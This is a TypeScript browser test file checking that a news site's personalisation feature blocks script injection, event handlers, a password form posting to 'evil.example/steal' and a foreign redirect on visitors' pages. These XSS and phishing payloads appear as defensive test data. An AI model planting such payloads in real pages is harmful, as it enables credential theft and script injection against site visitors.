/**
 * Personalisation that cannot hurt a visitor, in Chromium: the script-injection attack (an
 * anonymous, then an editor's, PUT of a trusted activity with a <script>) is refused, and an
 * editor's offer with a script, an event handler, a password form and a foreign redirect never
 * runs, shows or navigates on the visitor's page.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { newVisitorPage } from './helpers/browser.js';
import { E2E_ADMIN_ENV, addUserAsAdmin, apiHeaders } from './helpers/server-process.js';
import { useSiteUnderTest } from './helpers/site-under-test.js';

const site = useSiteUnderTest({ env: E2E_ADMIN_ENV });
const ARTICLE = '/noticia/1001/parlament-aprova-llei-habitatge-assequible/';
const ACTIVITY = 'titular-1001';
const EDITOR = { email: 'e2e-editor@mesura.test', password: 'e2e-editor-password', role: 'editor' };
const HEADLINE = 'Titular segur';
const INJECTED = [
  `<span class="segur">${HEADLINE}</span>`,
  '<script>window.__injected = "script"</script>',
  '<img src="/no-existeix.png" onerror="window.__injected = \'onerror\'">',
  '<form action="https://evil.example/steal"><input type="password" name="contrasenya"><button>Entra</button></form>',
].join('');

type Definition = { id: string; experiences: { id: string; share: number; offer?: { actions?: unknown[] } }[]; [field: string]: unknown };

let editorHeaders: Record<string, string>;
let seeded: Definition;

beforeAll(async () => {
  const admin = { 'content-type': 'application/json', ...(await apiHeaders(site.server)) };
  await addUserAsAdmin(site.server, EDITOR);
  const json = { 'content-type': 'application/json', origin: site.server.baseUrl };
  const signIn = await fetch(`${site.server.baseUrl}/api/session`, { method: 'POST', headers: json, body: JSON.stringify({ email: EDITOR.email, password: EDITOR.password }) });
  expect(signIn.status).toBe(204);
  // The console's way: the session cookie, and an Origin of the server's own.
  editorHeaders = { ...json, cookie: (signIn.headers.get('set-cookie') ?? '').split(';', 1)[0]! };
  seeded = (await (await fetch(`${site.server.baseUrl}/api/activities/${ACTIVITY}`, { headers: admin })).json()) as Definition;
});

/** The seeded headline test with every visitor in B and B's offer doing `actions`. */
function withOffer(actions: unknown[]): Definition {
  return {
    ...seeded,
    experiences: seeded.experiences.map((e) => (e.id === 'b' ? { ...e, share: 100, offer: { ...e.offer, actions } } : { ...e, share: 0 })),
  };
}

const put = (definition: unknown, headers: Record<string, string>) => fetch(`${site.server.baseUrl}/api/activities/${ACTIVITY}`, { method: 'PUT', headers, body: JSON.stringify(definition) });

describe('personalisation safety in Chromium', () => {
  it("refuses the script-injection attack: an anonymous PUT with trusted and a script (401), an editor's too (400)", async () => {
    const attack = { ...withOffer([{ action: 'setContent', selector: 'h1.article__title', content: '<script>alert(1)</script>' }]), trusted: true };
    const anonymous = await put(attack, { 'content-type': 'application/json', origin: site.server.baseUrl });
    expect(anonymous.status).toBe(401);
    const editor = await put(attack, editorHeaders);
    expect(editor.status).toBe(400);
    expect(((await editor.json()) as { code: string }).code).toBe('MESURA_ERR_BAD_ACTIVITY');
    const foreign = await put(withOffer([{ action: 'redirect', content: 'https://evil.example/' }]), editorHeaders);
    expect(foreign.status).toBe(400);
    expect(((await foreign.json()) as { error: string }).error).toContain('redirect to https://evil.example is not allowed');
  });

  it("neutralises an editor's script, event handler and password form on the visitor's page, and never navigates away", async () => {
    const accepted = await put(withOffer([{ action: 'setContent', selector: 'h1.article__title', content: INJECTED }]), editorHeaders);
    expect(accepted.status, await accepted.clone().text()).toBe(200);
    const page = await newVisitorPage(site.browser, { consent: { accepted: true, baseUrl: site.server.baseUrl } });
    const foreignRequests: string[] = [];
    const navigations: string[] = [];
    page.on('request', (request) => !request.url().startsWith(site.server.baseUrl) && foreignRequests.push(request.url()));
    page.on('framenavigated', (frame) => frame === page.mainFrame() && navigations.push(frame.url()));
    await page.goto(`${site.server.baseUrl}${ARTICLE}`);
    await expect.poll(() => page.locator('h1.article__title').textContent(), { timeout: 10_000 }).toBe(`${HEADLINE}Entra`);
    // The app replaces the server's first view, and the offer is applied again: watch for a while.
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => (window as unknown as { __injected?: string }).__injected)).toBeUndefined();
    expect(await page.locator('h1.article__title script, h1.article__title form, input[type="password"], [onerror]').count()).toBe(0);
    expect(await page.locator('h1.article__title .segur').textContent()).toBe(HEADLINE);
    expect(foreignRequests).toEqual([]);
    expect(new Set(navigations)).toEqual(new Set([`${site.server.baseUrl}${ARTICLE}`]));
    expect(page.url()).toBe(`${site.server.baseUrl}${ARTICLE}`);
    await page.close();
  });
});
